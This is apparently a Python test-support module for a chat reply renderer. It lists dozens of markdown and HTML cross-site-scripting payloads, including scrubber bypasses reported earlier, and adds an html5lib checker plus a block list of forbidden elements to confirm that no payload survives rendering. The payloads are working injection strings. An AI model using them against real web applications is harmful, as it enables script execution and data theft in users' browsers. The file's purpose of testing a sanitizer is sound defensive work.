"""Hostile replies, and a check of rendered HTML that a browser would parse the same way.

Shared by the unit tests (``test_reply_html.py``) and the browser test (``browser/test_reply_xss_browser.py``).
Every payload that would run sets ``window.__pwned``; the browser test asserts it stays unset.
"""

from __future__ import annotations

from urllib.parse import urlsplit

import html5lib

PWN = "window.__pwned=1"
# The same as a quoted attribute value: a raw tag CommonMark and every browser accept.
ON = f'"{PWN}"'

# The bypasses of the hand-written scrubber reported against it, then a corpus of known vectors.
REPORTED = {
    "escaped backtick": f"\\`<img src=x onerror={ON}>`",
    "U+2028 in a fence line": f"```\u2028`<img src=x onerror={ON}>`",
    "form feed in a fence line": f"```\x0c`<img src=x onerror={ON}>`",
    "NEL in a fence line": f"```\x85`<img src=x onerror={ON}>`",
    "U+2028 splitting a code span": f"`a\u2028`<img src=x onerror={ON}>`",
    "backtick pairing drift": f"``a` <img src=x onerror={ON}> `b``",
    "escaped colon link": f"[c](javascript\\:{PWN})",
    "&colon; link": f"[c](javascript&colon;{PWN})",
    "&#58; link": f"[c](javascript&#58;{PWN})",
}

CORPUS = {
    "script": f"<script>{PWN}</script>",
    "img onerror": f"<img src=x onerror={ON}>",
    "img unclosed": f"<img src=x onerror={ON}",
    "svg onload": f"<svg onload={ON}>",
    "svg script": f"<svg><script>{PWN}</script></svg>",
    "math mxss": f"<math><mtext><table><mglyph><style><img src=x onerror={ON}>",
    "iframe javascript": f'<iframe src="javascript:{PWN}"></iframe>',
    "iframe srcdoc": '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
    "object": f'<object data="javascript:{PWN}"></object>',
    "embed": f'<embed src="javascript:{PWN}">',
    "style url": f'<div style="background:url(javascript:{PWN})">x</div>',
    "style expression": f'<div style="width:expression({PWN})">x</div>',
    "style element": f"<style>@import 'javascript:{PWN}';</style>",
    "details ontoggle": f"<details open ontoggle={ON}>x</details>",
    "input autofocus": f"<input autofocus onfocus={ON}>",
    "body onload": f"<body onload={ON}>",
    "video source": f"<video><source onerror={ON}></video>",
    "form action": f'<form action="javascript:{PWN}"><button>go</button></form>',
    "meta refresh": f'<meta http-equiv="refresh" content="0;url=javascript:{PWN}">',
    "base href": '<base href="javascript:/">',
    "split script": f"<scr<script>ipt>{PWN}</script>",
    "anchor entity": f'<a href="&#106;avascript:{PWN}">x</a>',
    "img newline entity": f'<IMG SRC="jav&#x0A;ascript:{PWN}">',
    "html comment": f"<!-- --><img src=x onerror={ON}><!-- -->",
    "comment trick": f'<!--<img src="--><img src=x onerror={ON}//">',
    "link javascript": f"[a](javascript:{PWN})",
    "link mixed case": f"[a](JaVaScRiPt:{PWN})",
    "link hex entity": f"[a](javascript&#x3A;{PWN})",
    "link tab entity": f"[a](java&#x09;script:{PWN})",
    "link leading space": f"[a]( javascript:{PWN})",
    "link angle brackets": f"[a](<javascript:{PWN}>)",
    "link percent": f"[a](%6Aavascript:{PWN})",
    "link vbscript": "[a](vbscript:msgbox(1))",
    "link data html": "[a](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+)",
    "link relative": "[a](/api/kernels)",
    "link title quote": f'[a](https://example.com "t\\" onmouseover=\\"{PWN}")',
    "image javascript": f"![x](javascript:{PWN})",
    "image data svg": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "image alt quote": f'![x" onerror="{PWN}](https://example.com/a.png)',
    "image remote": "![tracker](https://example.com/pixel.png?conversation=secret)",
    "autolink javascript": f"<javascript:{PWN}>",
    "autolink quote": f'<https://example.com/"onmouseover="{PWN}>',
    "reference link": f"[a][r]\n\n[r]: javascript:{PWN}",
    "reference link angle": f"[a][r]\n\n[r]: <javascript:{PWN}>",
    "nested code spans": f"`` ` `` <img src=x onerror={ON}> `` ` ``",
    "code span across lines": f"a `\n<img src=x onerror={ON}>\n`",
    "unclosed fence": f"~~~\n<img src=x onerror={ON}>\n",
    "fence info string": f"```<img src=x onerror={ON}>\ncode\n```",
    "table cell": f"| a | <img src=x onerror={ON}> |\n|---|---|\n| `x | <img src=x onerror={ON}>` | y |",
    "heading": f"# h `\n<img src=x onerror={ON}>`",
    "list item": f"- `a\n- <img src=x onerror={ON}>`",
    "blockquote": f"> <img src=x onerror={ON}>",
    "marquee": f"<marquee onstart={ON}>x</marquee>",
}

PAYLOADS = {**REPORTED, **CORPUS}

#: Elements that run or load something; none may appear in a rendered reply.
FORBIDDEN = frozenset(
    "script iframe frame frameset object embed applet style link meta base form input button textarea select "
    "svg math img image video audio source track picture details marquee body html head template".split()
)
URL_ATTRIBUTES = ("href", "src", "action", "formaction", "data", "poster", "xlink:href", "background", "srcset")
SCHEMES = ("http", "https", "mailto")


def problems(fragment: str, *, allowed_tags: frozenset[str] | None = None) -> list[str]:
    """What is wrong with ``fragment`` as a browser would parse it (html5lib follows the WHATWG
    parsing rules): forbidden elements, on* or style attributes, links outside http/https/mailto."""
    root = html5lib.parseFragment(fragment, treebuilder="etree", namespaceHTMLElements=False)
    found = []
    for element in root.iter():
        if not isinstance(element.tag, str):
            continue  # a comment
        tag = element.tag.rsplit("}", 1)[-1].lower()
        if tag == "document_fragment":
            continue
        if tag in FORBIDDEN or (allowed_tags is not None and tag not in allowed_tags):
            found.append(f"<{tag}> element")
        for name, value in element.attrib.items():
            name = name.rsplit("}", 1)[-1].lower()
            if name.startswith("on") or name == "style":
                found.append(f"{name}= on <{tag}>")
            if name in URL_ATTRIBUTES:
                # What a browser does first: drop leading/trailing C0 controls and spaces, and tabs
                # and newlines anywhere.
                url = "".join(
                    c for c in value.strip("\x00\x01\x02\x03\x04\x05\x06\x07\x08\t\n\x0b\x0c\r ") if c not in "\t\n\r"
                )
                scheme = urlsplit(url).scheme.lower()
                if scheme not in SCHEMES:
                    found.append(f"{name}={value!r} on <{tag}>")
    return found
